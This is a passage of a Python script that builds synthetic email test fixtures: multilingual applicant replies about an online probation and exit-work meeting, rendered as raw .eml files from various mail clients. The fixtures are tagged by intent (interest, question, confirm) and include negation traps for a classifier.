--_004_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_
Content-Type: application/pdf; name="CV_Nikos_Papadakis_2022.pdf"
Content-Description: CV_Nikos_Papadakis_2022.pdf
Content-Disposition: attachment; filename="CV_Nikos_Papadakis_2022.pdf";
	size={len(PDF)}; creation-date="Fri, 04 Mar 2022 13:29:40 GMT";
	modification-date="Fri, 04 Mar 2022 13:29:40 GMT"
Content-Transfer-Encoding: base64

{b64(PDF)}
--_004_4E1B7C0F2D9A4C3E8F610A5B2D9C7E14ministryexamplecom_--
""")
    add("interest-en-cv-pdf-300k.eml", "applicant_message", "interest", True, "n.papadakis@ministry.example.com", "",
        "the one large file: ~300 KB of base64 PDF; body is base64 too", raw, crlf=True)

    # --- Thunderbird, call forwarded as an attachment (message/rfc822)
    d = "Fri, 4 Mar 2022 16:44:51 +0100"
    call = f"""From: Anna Organiser <anna.organiser@example.org>
To: practitioners-net@lists.example.net
Subject: Call for participants: working group meeting, 24-25 March 2022 (online)
Date: Mon, 21 Feb 2022 10:00:00 +0100
Message-ID: <call-2022-02-21@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Dear colleagues,

we are organising an online working group meeting for practitioners in exit
work, deradicalisation and probation, and adjacent fields (psychotherapy,
substance abuse, domestic violence), on 24 and 25 March 2022, 13:30-16:30
Brussels time, over WebEx, in English.

Places are limited. If you are interested, please fill in the survey by
10 March 2022: {SURVEY_URL}
Selected participants will be asked to confirm their participation; please
decline promptly if you cannot attend so that others can take your place.

Questions: {CONTACT}

Anna Organiser
"""
    raw = (envelope("dirk.peeters@cgg.example.org", d, "smtp.cgg.example.org", "198.51.100.201") + f"""Received: from [192.168.1.20] (ip-83-134-12-7.dsl.example.net [83.134.12.7])
	by smtp.cgg.example.org (Postfix) with ESMTPSA id 8C3A240B12
	for <contact@callflow.example.org>; {d}
Content-Type: multipart/mixed; boundary="------------B0wY1kNq3e6XzP4mJ8sVtR2d"
Message-ID: <0f3c9a57-6a3b-4ad8-b0f4-3e2b7d91c6e8@cgg.example.org>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101
 Thunderbird/91.6.1
Content-Language: en-GB
To: contact@callflow.example.org
From: Dirk Peeters <dirk.peeters@cgg.example.org>
Subject: Fwd: Call for participants: working group meeting, 24-25 March 2022
 (online)

This is a multi-part message in MIME format.
--------------B0wY1kNq3e6XzP4mJ8sVtR2d
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hello,

a colleague forwarded me the call below. I'm very interested in joining 
the meeting - I work as an addiction counsellor and a growing part of 
my clients come to us through the probation service.

Kind regards,
Dirk Peeters
--------------B0wY1kNq3e6XzP4mJ8sVtR2d
Content-Type: message/rfc822; name="Call for participants.eml"
Content-Disposition: attachment; filename="Call for participants.eml"

{call}
--------------B0wY1kNq3e6XzP4mJ8sVtR2d--
""")
    add("interest-en-forward-as-attachment.eml", "applicant_message", "interest", True, "dirk.peeters@cgg.example.org",
        "", "call forwarded as message/rfc822; the attached call's confirm/decline words are not the sender's", raw)


def make_pdf() -> bytes:
    """A valid, deterministic ~220 KB PDF: one page of text plus a large noise image."""
    noise = stream("cv-image", 218_000)
    text = b"BT /F1 18 Tf 72 720 Td (Curriculum Vitae - Nikos Papadakis) Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /XObject /Subtype /Image /Width 400 /Height 545 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Length %d >>\nstream\n" % len(noise) + noise + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


PDF = make_pdf()


# =========================================================================== applicant: question
def question_messages():
    # --- mutt, bottom/inline reply to the ack; quote mentions delete/withdraw
    d = "Wed, 2 Mar 2022 21:40:07 +0100"
    ack = ack_text("Erik Lindgren").split("\n")
    q1, q2 = "\n".join(ack[:7]), "\n".join(ack[8:10])
    raw = (envelope("erik.lindgren@kriminalvard.example.net", d, "mx.kriminalvard.example.net", "192.0.2.201")
           + f"""Received: by mx.kriminalvard.example.net (Postfix, from userid 1000)
	id 6E0B2A1234; {d}
Date: {d}
From: Erik Lindgren <erik.lindgren@kriminalvard.example.net>
To: Working group contact <contact@callflow.example.org>
Subject: Re: Participation in the working group meeting
Message-ID: <YiBVh7RkQ2p0mZ3x@kriminalvard.example.net>
References: {cf_msgid("ack", "erik")}
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Disposition: inline
In-Reply-To: {cf_msgid("ack", "erik")}
User-Agent: Mutt/2.0.5 (2021-01-21)

On Wed, Mar 02, 2022 at 10:15:03AM +0100, Working group contact wrote:
{quote(q1)}

Which time zone is "Europe/Brussels" in late March -- CET or CEST? I will
be joining from Stockholm, so it is probably the same, but I'd like to be
sure because our clocks change on the 27th.

{quote(q2)}

Done, I filled it in this morning.

{quote(chr(10).join(ack[11:]))}

-- 
Erik Lindgren
""")
    add("question-en-mutt-inline-reply.eml", "applicant_message", "question", True,
        "erik.lindgren@kriminalvard.example.net", "",
        "inline reply; own lines between quoted blocks; quote has 'delete'/'withdraw'", raw)

    # --- Gmail top-post reply with the ack quoted below
    d = "Thu, 3 Mar 2022 08:05:59 +0000"
    text = """Thank you. Do I need a WebEx account, or can I join from the browser?
Our IT department blocks most video tools on work laptops.

Aoife"""
    attr = "On Wed, 2 Mar 2022 at 10:15, Working group contact <contact@callflow.example.org> wrote:"
    hops, host = gmail_hops("q2", "mail.example.com", d, "aoife.byrne")
    raw = (envelope("aoife.byrne@mail.example.com", d, host, "209.85.128.49", auth=auth_pass("mail.example.com", "q2"))
           + hops + f"""MIME-Version: 1.0
References: {cf_msgid("ack", "aoife")}
In-Reply-To: {cf_msgid("ack", "aoife")}
From: Aoife Byrne <aoife.byrne@mail.example.com>
Date: {d}
Message-ID: <CAF3kR9w_Jx2pQ1LmZ8vT+0nFh6s4cYbE9dUoV7rK3aNqW5ePgQ@mail.gmail.example.com>
Subject: Re: Participation in the working group meeting
To: Working group contact <contact@callflow.example.org>
Content-Type: multipart/alternative; boundary="000000000000e1d20f05d949a7c3"

--000000000000e1d20f05d949a7c3
Content-Type: text/plain; charset="UTF-8"

{text}

{attr}

{quote(ack_text("Aoife Byrne"))}

--000000000000e1d20f05d949a7c3
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(gmail_html(text, (attr, ack_text("Aoife Byrne"))))}
--000000000000e1d20f05d949a7c3--
""")
    add("question-en-gmail-toppost.eml", "applicant_message", "question", True, "aoife.byrne@mail.example.com", "",
        "top-posted question, ack quoted below (Gmail quote in both parts)", raw, crlf=True)

    # --- Outlook HTML only, disclaimer says "delete this e-mail"
    d = "Thu, 3 Mar 2022 09:22:40 +0000"
    paras = ["Dear Sir or Madam,", "",
             "Will participants receive a certificate of attendance? Our employer requires one for continuing "
             "education credits, and I would like to know before I fill in the survey.", "",
             "Best regards", "Ingrid Solberg", "Senior adviser | Kriminalomsorgen Example", ""]
    disclaimer = ('<p class="MsoNormal"><span style="font-size:8.0pt;color:gray">This e-mail may contain confidential '
                  'information. If you are not the intended recipient, please notify the sender immediately and delete '
                  'this e-mail and any attachments. Any unauthorised use is prohibited.</span><o:p></o:p></p>')
    raw = (envelope("ingrid.solberg@kriminalomsorg.example.org", d, "EUR05-AM6-obe.outbound.protection.outlook.example.com",
                    "40.107.22.74", auth=auth_pass("kriminalomsorg.example.org", "q3")) + f"""Received: from DB9PR05MB7321.eurprd05.prod.outlook.example.com ([fe80::a4c1:7b2e:9d13:55f0]) by
 DB9PR05MB7321.eurprd05.prod.outlook.example.com ([fe80::a4c1:7b2e:9d13:55f0%6]) with mapi id
 15.20.5038.015; {d}
From: Ingrid Solberg <ingrid.solberg@kriminalomsorg.example.org>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Certificate of attendance?
""" + outlook_headers("Certificate of attendance?", "q3", "nb-NO, en-US", "en-US") + f"""Date: {d}
Message-ID: {outlook_msgid("q3")}
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

{qp(outlook_html(mso(paras) + chr(10) + disclaimer))}""")
    add("question-en-outlook-html-only.eml", "applicant_message", "question", True,
        "ingrid.solberg@kriminalomsorg.example.org", "",
        "text/html only (no text part); disclaimer 'delete this e-mail' is not an erasure request", raw, crlf=True)

    # --- interest + question in one mail (Outlook.com web)
    d = "Thu, 3 Mar 2022 14:11:09 +0000"
    text = """Hello,

I am interested in taking part in the working group meeting. I work as a psychotherapist in private practice, mostly with clients referred by the probation service and by a domestic violence programme, but I am not employed by a probation service myself.

Is the meeting also open to therapists from private practice, or only to practitioners from public services?

Kind regards,
Sara Ahmed"""
    raw = (envelope("sara.ahmed@praxis.example.com", d, "EUR03-VE1-obe.outbound.protection.outlook.example.com",
                    "40.92.73.21", auth=auth_pass("praxis.example.com", "q4")) + f"""Received: from VI1PR0301MB2229.eurprd03.prod.outlook.example.com
 (2603:10a6:800:ad::19) by VI1PR0301MB2229.eurprd03.prod.outlook.example.com with
 HTTPS; {d}
From: Sara Ahmed <sara.ahmed@praxis.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Working group meeting - open to private practice?
""" + outlook_headers("Working group meeting - open to private practice?", "q4") + f"""Date: {d}
Message-ID: {outlook_msgid("q4")}
x-tmn: [Qx7r0zQf1uJY3bS9kVfR8oN2sWm4pLcA]
Content-Type: multipart/alternative;
	boundary="_000_VI1PR0301MB22295F3B0E7D1C4A8B2E91D0C4A09VI1PR0301MB2229_"
MIME-Version: 1.0

--_000_VI1PR0301MB22295F3B0E7D1C4A8B2E91D0C4A09VI1PR0301MB2229_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(text + chr(10))}
--_000_VI1PR0301MB22295F3B0E7D1C4A8B2E91D0C4A09VI1PR0301MB2229_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"><style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head><body dir="ltr">' + "".join('<div style="font-family: Calibri, Arial, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">' + html_lines(p) + "<br></div>" for p in text.split(chr(10) + chr(10))) + "</body></html>")}
--_000_VI1PR0301MB22295F3B0E7D1C4A8B2E91D0C4A09VI1PR0301MB2229_--
""")
    add("question-en-interest-and-question.eml", "applicant_message", "question", True, "sara.ahmed@praxis.example.com",
        "", "says 'I am interested' and asks something: question wins (needs a person)", raw, crlf=True)

    # --- GMX-like web mail, German
    d = "Thu, 3 Mar 2022 17:48:22 +0100"
    body = """Hallo,

findet das Treffen komplett auf Englisch statt? Mein Englisch ist gut, aber nicht perfekt – gibt es eine Übersetzung oder kann man Fragen auch auf Deutsch stellen?

Viele Grüße
Mehmet Yilmaz"""
    raw = (envelope("m.yilmaz@gmx.example.net", d, "mout.gmx.example.net", "212.227.15.18",
                    auth=auth_pass("gmx.example.net", "q5")) + f"""Received: from [85.178.34.201] ([85.178.34.201]) by web-mail.gmx.example.net
 (3c-app-gmx-bs37.server.lan [172.19.170.89]) (via HTTP); {d}
MIME-Version: 1.0
Message-ID: <trinity-0d6c1a8e-7b3f-4f2a-9e51-c2b80f4d7a61-1646326102311@3c-app-gmx-bs37>
From: "Mehmet Yilmaz" <m.yilmaz@gmx.example.net>
To: contact@callflow.example.org
Subject: Frage zur Sprache des Treffens
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
Date: {d}
Importance: normal
Sensitivity: Normal
X-Priority: 3
X-Provags-ID: V03:K1:{fake_b64("q5p", 60)}
X-UI-Message-Type: mail
X-UI-Out-Filterresults: notjunk:1;V03:K0:{fake_b64("q5f", 12)}=

{qp(body)}
""")
    add("question-de-webmail.eml", "applicant_message", "question", True, "m.yilmaz@gmx.example.net", "",
        "German question (language of the meeting)", raw, crlf=True)

    # --- Open-Xchange, French, windows-1252 with typographic apostrophe and nbsp before '?'
    d = "Fri, 4 Mar 2022 09:02:13 +0100 (CET)"
    body = ("Bonjour,\n\nLa participation est-elle gratuite\u00a0? Et faut-il s\u2019inscrire pour les deux "
            "après-midis ou peut-on ne venir qu\u2019au premier\u00a0?\n\nMerci d\u2019avance,\nÉlodie Lefèvre\n")
    raw = (envelope("elodie.lefevre@orange.example.net", d.replace(" (CET)", ""), "smtp-out.orange.example.net",
                    "80.12.242.131") + f"""Received: from opme11oxm13aub.bagnolet.orange.example.net ([10.229.128.51])
	by mwinf5d48 with ME
	id 3ZQD2700B0y8Xu901ZQDQe; {d}
Date: {d}
From: =?UTF-8?Q?=C3=89lodie_Lef=C3=A8vre?= <elodie.lefevre@orange.example.net>
Reply-To: =?UTF-8?Q?=C3=89lodie_Lef=C3=A8vre?= <elodie.lefevre@orange.example.net>
To: contact@callflow.example.org
Message-ID: <1529804512.117254.1646380933012.JavaMail.open-xchange@opme11oxm13aub.bagnolet.orange.example.net>
Subject: =?UTF-8?Q?R=C3=A9union_du_groupe_de_travail_:_question?=
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1252
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
Importance: Normal
X-Mailer: Open-Xchange Mailer v7.10.5-Rev26
X-Originating-Client: open-xchange-appsuite

{qp(body, "cp1252")}""")
    add("question-fr-openxchange-cp1252.eml", "applicant_message", "question", True,
        "elodie.lefevre@orange.example.net", "", "French, windows-1252 QP; question marks after no-break spaces", raw)

    # --- Evolution, asks after the deadline whether the survey is still open
    d = "Fri, 11 Mar 2022 09:20:55 +0100"
    raw = (envelope("anders.holm@kommune.example.net", d, "smtp.kommune.example.net", "198.51.100.12",
                    spam=(-0.9, "BAYES_00,SPF_HELO_NONE,SPF_PASS")) + f"""Received: from ah-thinkpad (unknown [10.1.8.66])
	by smtp.kommune.example.net (Postfix) with ESMTPSA id 2B1F3C0011
	for <contact@callflow.example.org>; {d}
Message-ID: <7d9e2b4c1f0a3e5d8b6c2a9f1e4d7b3c0a5e8f21.camel@kommune.example.net>
Subject: Survey closed?
From: Anders Holm <anders.holm@kommune.example.net>
To: contact@callflow.example.org
Date: {d}
Content-Type: text/plain
Content-Transfer-Encoding: 7bit
User-Agent: Evolution 3.40.4-1
MIME-Version: 1.0

Good morning,

I only just saw the call for the working group meeting. Is it still
possible to fill in the survey after the deadline of 10 March, or is it
closed now? I would very much like to take part; I coordinate the
municipal exit programme here.

Best,
Anders Holm
Kommune Example
""")
    add("question-en-after-deadline.eml", "applicant_message", "question", True, "anders.holm@kommune.example.net", "",
        "arrives after the survey deadline; asks whether late application is possible", raw)

    # --- negation trap 1: "I cannot confirm yet" (Apple Mail reply to the invitation)
    d = "Tue, 15 Mar 2022 11:47:30 +0100"
    inv = invitation_text("Fatima El Amrani")
    raw = (envelope("f.elamrani@exitprogramm.example.org", d, "mail.exitprogramm.example.org", "203.0.113.66")
           + f"""Received: from smtpclient.apple (unknown [203.0.113.201])
	by mail.exitprogramm.example.org (Postfix) with ESMTPSA id 4KHq9x0C2Vz3wT1;
	{d}
Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 15.0 \\(3693.60.0.1.1\\))
Subject: Re: {INV_SUBJECT}
From: Fatima El Amrani <f.elamrani@exitprogramm.example.org>
In-Reply-To: {cf_msgid("invite", "fatima")}
Date: {d}
Content-Transfer-Encoding: quoted-printable
Message-Id: <3C8F1A2B-9D4E-4F6A-B7C1-0E2D5A8F9B34@exitprogramm.example.org>
References: {cf_msgid("invite", "fatima")}
To: Working group contact <contact@callflow.example.org>
X-Mailer: Apple Mail (2.3693.60.0.1.1)

{qp('''Thank you for the invitation! I cannot confirm yet because I am still waiting for my manager's approval for the second afternoon.

Is there a recording if I can only make the first afternoon?

Best wishes,
Fatima

> On 14. Mar 2022, at 10:02, Working group contact <contact@callflow.example.org> wrote:
>
''' + quote(inv) + chr(10))}""")
    add("question-en-cannot-confirm-yet.eml", "applicant_message", "question", True,
        "f.elamrani@exitprogramm.example.org", "",
        "negation trap: 'I cannot confirm yet' + question; invitation quoted below; duplicate CTE header", raw)

    # --- negation trap 2: "I don't want to withdraw" (K-9 Mail)
    d = "Sat, 05 Mar 2022 10:12:03 +0000"
    raw = (envelope("rui.almeida@reinsercao.example.net", d, "smtp.reinsercao.example.net", "192.0.2.140")
           + f"""Received: from [10.132.5.9] (unknown [198.51.100.99])
	by smtp.reinsercao.example.net (Postfix) with ESMTPSA id 0E4D9E01A7
	for <contact@callflow.example.org>; {d}
Date: {d}
User-Agent: K-9 Mail for Android
MIME-Version: 1.0
Content-Type: text/plain;
 charset=UTF-8
Content-Transfer-Encoding: 8bit
Subject: Question about the time (not a withdrawal)
To: contact@callflow.example.org
From: =?ISO-8859-1?Q?Rui_Almeida?= <rui.almeida@reinsercao.example.net>
Message-ID: <9A0B1C2D-3E4F-4051-8263-748596A7B8C9@reinsercao.example.net>

Hello,

I don't want to withdraw, just asking about the time: does the meeting start at 13:30 Brussels time on both days? I'm in Lisbon, so that would be 12:30 for me, right?

Obrigado,
Rui
-- 
Sent from my Android device with K-9 Mail. Please excuse my brevity.
""")
    add("question-en-not-withdrawing.eml", "applicant_message", "question", True, "rui.almeida@reinsercao.example.net",
        "", "negation trap: 'I don't want to withdraw' — it is a question", raw)

    # --- Outlook Dutch reply, unprefixed quote ("Van:/Verzonden:") with 'withdraw'/'delete' in it
    d = "Mon, 7 Mar 2022 08:31:44 +0000"
    ack = ack_text("Sanne Bakker")
    own = "Goedemorgen,\n\nIs er een maximum aantal deelnemers per organisatie? Twee collega's van mijn team willen zich ook aanmelden.\n\nMet vriendelijke groet,\nSanne Bakker\nGemeente Example – Veiligheidshuis"
    qhdr = [("Van", "Working group contact <contact@callflow.example.org>"),
            ("Verzonden", "vrijdag 4 maart 2022 16:20"), ("Aan", "Sanne Bakker <s.bakker@gemeente.example.org>"),
            ("Onderwerp", ACK_SUBJECT)]
    plain = own + "\n\n" + "\n".join(f"{k}: {v}" for k, v in qhdr) + "\n\n" + ack + "\n"
    raw = (envelope("s.bakker@gemeente.example.org", d, "EUR02-HE1-obe.outbound.protection.outlook.example.com",
                    "40.107.1.102", auth=auth_pass("gemeente.example.org", "q10")) + """From: Sanne Bakker <s.bakker@gemeente.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: RE: Participation in the working group meeting
""" + outlook_headers("Participation in the working group meeting", "q10", "nl-NL, en-US", "nl-NL") + f"""Date: {d}
Message-ID: {outlook_msgid("q10")}
References: {cf_msgid("ack", "sanne")}
In-Reply-To: {cf_msgid("ack", "sanne")}
Content-Type: multipart/alternative;
	boundary="_000_AM0PR07MB5570C2B9E0A4F7D1E3B6A8C91D0A3AM0PR07MB5570eurp_"
MIME-Version: 1.0

--_000_AM0PR07MB5570C2B9E0A4F7D1E3B6A8C91D0A3AM0PR07MB5570eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(plain)}
--_000_AM0PR07MB5570C2B9E0A4F7D1E3B6A8C91D0A3AM0PR07MB5570eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

{b64(outlook_html(mso(own.split(chr(10))) + chr(10) + outlook_quote_html(qhdr, ack), "NL"))}
--_000_AM0PR07MB5570C2B9E0A4F7D1E3B6A8C91D0A3AM0PR07MB5570eurp_--
""")
    add("question-nl-outlook-unprefixed-quote.eml", "applicant_message", "question", True,
        "s.bakker@gemeente.example.org", "",
        "Dutch question; quoted ack has no '>' (Van:/Verzonden: block) and mentions delete/withdraw", raw, crlf=True)

    # --- Spanish question from Outlook with winmail.dat
    d = "Mon, 7 Mar 2022 12:55:20 +0100"
    body = """Buenas tardes:

¿Es necesario tener experiencia previa en programas de salida para participar en la reunión? Trabajo en el ámbito de la libertad condicional desde hace poco.

Saludos,
Javier Morales
Instituciones Penitenciarias (Example)"""
    tnef = b"\x78\x9f\x3e\x22" + b"\x01\x00" + stream("tnef", 1400)
    raw = (envelope("jmorales@instituciones.example.com", d, "correo.instituciones.example.com", "198.51.100.180")
           + f"""Received: from EXCH02.instituciones.local (10.10.0.22) by EXCH01.instituciones.local
 (10.10.0.21) with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA384) id 15.1.2375.18; {d}
From: Javier Morales Ruiz <jmorales@instituciones.example.com>
To: "contact@callflow.example.org" <contact@callflow.example.org>
Subject: Consulta sobre la reunion del grupo de trabajo
Thread-Topic: Consulta sobre la reunion del grupo de trabajo
Thread-Index: AdgyF1c2Vn3YmQ0qT1+XcH0p7bC9aQ==
Date: {d}
Message-ID: <6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64@EXCH02.instituciones.local>
Accept-Language: es-ES, en-US
Content-Language: es-ES
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64@EXCH02.instituciones.local>
x-originating-ip: [10.10.3.145]
Content-Type: multipart/mixed;
	boundary="_002_6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64EXCH02institucioneslocal_"
MIME-Version: 1.0

--_002_6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64EXCH02institucioneslocal_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(body + chr(10), "iso-8859-1")}
--_002_6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64EXCH02institucioneslocal_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Disposition: attachment; filename="winmail.dat"
Content-Transfer-Encoding: base64

{b64(tnef)}
--_002_6f1d2c7a9b0e4e3d8a5c1b2f0e9d7c64EXCH02institucioneslocal_--
""")
    add("question-es-exchange-winmail-dat.eml", "applicant_message", "question", True,
        "jmorales@instituciones.example.com", "", "Spanish question; Exchange TNEF winmail.dat attachment", raw, crlf=True)

    # --- Windows Live Mail, raw 8-bit windows-1252 body with smart quotes
    d = "Tue, 8 Mar 2022 22:14:37 +0100"
    body = ("Hello \u2013 what\u2019s the maximum group size? And will the slides be shared afterwards?\r\n\r\n"
            "I\u2019m asking because I\u2019d like to brief my team in Bologna.\r\n\r\nPaolo Conti\r\n")
    hdr = (envelope("paolo.conti@example.com", d, "smtp.example.com", "192.0.2.61") + f"""Received: from PaoloPC ([151.38.22.104])
	by smtp.example.com with ESMTPA id 1nRhZ2-0009Ab-Cd
	for contact@callflow.example.org; {d}
From: "Paolo Conti" <paolo.conti@example.com>
To: <contact@callflow.example.org>
Subject: Group size and slides
Date: {d}
Message-ID: <2F8C4D1A7B3E4B0C9E1F6A2D5C8B7E30@PaoloPC>
MIME-Version: 1.0
Content-Type: text/plain;
	format=flowed;
	charset="windows-1252";
	reply-type=original
Content-Transfer-Encoding: 8bit
X-Priority: 3
X-MSMail-Priority: Normal
Importance: Normal
X-Mailer: Microsoft Windows Live Mail 16.4.3528.331
X-MimeOLE: Produced By Microsoft MimeOLE V16.4.3528.331

""").replace("\n", "\r\n").encode("ascii")
    add("question-en-winlivemail-cp1252-8bit.eml", "applicant_message", "question", True, "paolo.conti@example.com", "",
        "raw 8-bit windows-1252 body (smart quotes, en dash)", hdr + body.encode("cp1252"))

    # --- thanks only: a human reply with nothing to act on
    d = "Sat, 5 Mar 2022 12:00:41 +0100"
    raw = (envelope("katrin.vogel@mail.example.net", d, "mout.mail.example.net", "192.0.2.17") + f"""Date: {d}
From: Katrin Vogel <katrin.vogel@mail.example.net>
To: Working group contact <contact@callflow.example.org>
Subject: Re: Your application for the Working group meeting: practitioners in rehabilitation and exit work has been received
Message-ID: <20220305110041.GA2231@mail.example.net>
In-Reply-To: {cf_msgid("ackapp", "katrin")}
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Disposition: inline
Content-Transfer-Encoding: 8bit
User-Agent: Mutt/1.10.1 (2018-07-13)

Vielen Dank, angekommen!

K. Vogel

On Sat, Mar 05, 2022 at 11:50:12AM +0100, Working group contact wrote:
> Dear Katrin Vogel,
>
> thank you for filling in the survey for the Working group meeting:
> practitioners in rehabilitation and exit work. We have received your
> application.
>
> If you have a question in the meantime, simply reply to this message.
""")
    add("none-de-thanks-only.eml", "applicant_message", "none", True, "katrin.vogel@mail.example.net", "",
        "a human 'thanks, received' reply: nothing to do; reply allowed but no ack needed", raw)


# =========================================================================== applicant: confirm
def confirm_messages():
    # --- Outlook reply, unprefixed invitation quote with "decline" in it
    d = "Mon, 14 Mar 2022 10:31:18 +0000"
    inv = invitation_text("Pieter Janssens")
    own = "Dear organisers,\n\nI confirm my participation in both sessions.\n\nKind regards,\nPieter Janssens\nJustitiehuis Example"
    qhdr = [("From", "Working group contact <contact@callflow.example.org>"), ("Sent", "Monday, March 14, 2022 10:02 AM"),
            ("To", "Pieter Janssens <p.janssens@justitie.example.org>"), ("Subject", INV_SUBJECT)]
    plain = own + "\n\n" + "\n".join(f"{k}: {v}" for k, v in qhdr) + "\n\n" + inv + "\n"
    raw = (envelope("p.janssens@justitie.example.org", d, "EUR01-DB5-obe.outbound.protection.outlook.example.com",
                    "40.107.15.58", auth=auth_pass("justitie.example.org", "c1")) + f"""From: Pieter Janssens <p.janssens@justitie.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: RE: {INV_SUBJECT}
""" + outlook_headers(INV_SUBJECT, "c1", "nl-BE, en-US", "en-US") + f"""Date: {d}
Message-ID: {outlook_msgid("c1")}
References: {cf_msgid("invite", "pieter")}
In-Reply-To: {cf_msgid("invite", "pieter")}
Content-Type: multipart/alternative;
	boundary="_000_AM0PR07MB60849D1E2C3B4A5F6E7D8C9B0A1F2AM0PR07MB6084eurp_"
MIME-Version: 1.0

--_000_AM0PR07MB60849D1E2C3B4A5F6E7D8C9B0A1F2AM0PR07MB6084eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(plain)}
--_000_AM0PR07MB60849D1E2C3B4A5F6E7D8C9B0A1F2AM0PR07MB6084eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

{qp(outlook_html(mso(own.split(chr(10))) + chr(10) + outlook_quote_html(qhdr, inv)))}
--_000_AM0PR07MB60849D1E2C3B4A5F6E7D8C9B0A1F2AM0PR07MB6084eurp_--
""")
    add("confirm-en-outlook-quoted-invitation.eml", "applicant_message", "confirm", True,
        "p.janssens@justitie.example.org", "",
        "'I confirm my participation'; unprefixed quoted invitation contains 'decline'/'withdraw'", raw, crlf=True)

    # --- iPhone "Yes, I will attend" above a '>' quoted invitation
    d = "Mon, 14 Mar 2022 12:09:51 +0000"
    raw = (envelope("aoife.byrne@mail.example.com", d, "mail-ej1-f41.mail.example.com", "209.85.218.41",
                    auth=auth_pass("mail.example.com", "c2")) + f"""Received: by mail-ej1-f41.mail.example.com with SMTP id qx21so32795186ejb.13
        for <contact@callflow.example.org>; Mon, 14 Mar 2022 05:09:52 -0700 (PDT)
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Aoife Byrne <aoife.byrne@mail.example.com>
Mime-Version: 1.0 (1.0)
Subject: Re: {INV_SUBJECT}
Date: {d}
Message-Id: <7B2D9E41-0C6F-4A38-B15E-D3F8A92C6E07@mail.example.com>
References: {cf_msgid("invite", "aoife")}
In-Reply-To: {cf_msgid("invite", "aoife")}
To: Working group contact <contact@callflow.example.org>
X-Mailer: iPhone Mail (19D52)

{qp('''Yes, I will attend. Thank you!

Sent from my iPhone

> On 14 Mar 2022, at 10:02, Working group contact <contact@callflow.example.org> wrote:
>
> ''' + chr(0xfeff) + quote(invitation_text("Aoife Byrne"))[2:] + chr(10))}""")
    add("confirm-en-iphone-yes-i-will-attend.eml", "applicant_message", "confirm", True,
        "aoife.byrne@mail.example.com", "", "'Yes, I will attend'; quote starts with a BOM like iOS does", raw)

    # --- Outlook German: "Ja, ich nehme teil"
    d = "Mon, 14 Mar 2022 13:40:02 +0100"
    inv = invitation_text("Katrin Vogel")
    own = "Hallo,\n\nja, ich nehme teil – an beiden Nachmittagen.\n\nViele Grüße\nKatrin Vogel"
    plain = (own + "\n\nVon: Working group contact <contact@callflow.example.org>\nGesendet: Montag, 14. März 2022 10:02\n"
             "An: Katrin Vogel <k.vogel@bewaehrungshilfe.example.net>\nBetreff: " + INV_SUBJECT + "\n\n" + inv + "\n")
    raw = (envelope("k.vogel@bewaehrungshilfe.example.net", d, "mail.bewaehrungshilfe.example.net", "198.51.100.23")
           + f"""Received: from EXMBX01.bewaehrungshilfe.local (10.0.0.14) by EXMBX01.bewaehrungshilfe.local
